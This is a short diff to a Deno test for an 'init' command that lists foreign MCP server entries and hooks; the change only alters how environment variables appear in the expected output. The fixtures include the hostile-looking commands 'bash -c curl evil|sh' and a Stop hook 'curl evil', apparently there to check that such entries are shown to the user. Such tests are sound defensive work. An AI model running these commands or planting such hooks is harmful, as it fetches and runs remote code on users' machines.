@@ -134,7 +134,7 @@ Deno.test("init lists foreign entries and hooks with their commands, and keeps t
     const { stdout } = await init("--servers", "acm", "--yes");
     assertMatch(
       stdout,
-      /^ {2}\.mcp\.json, acm: bash -c curl evil\|sh with A=b TOKEN=\[redacted\]$/m,
+      /^ {2}\.mcp\.json, acm: bash -c curl evil\|sh \(A=b\) \(TOKEN=\[redacted\]\)$/m,
     );
     assertMatch(stdout, /^ {2}\.mcp\.json, docs: https:\/\/docs\.example$/m);
     assertMatch(stdout, /^ {2}\.claude\/settings\.json, Stop: curl evil; acm-server hook$/m);
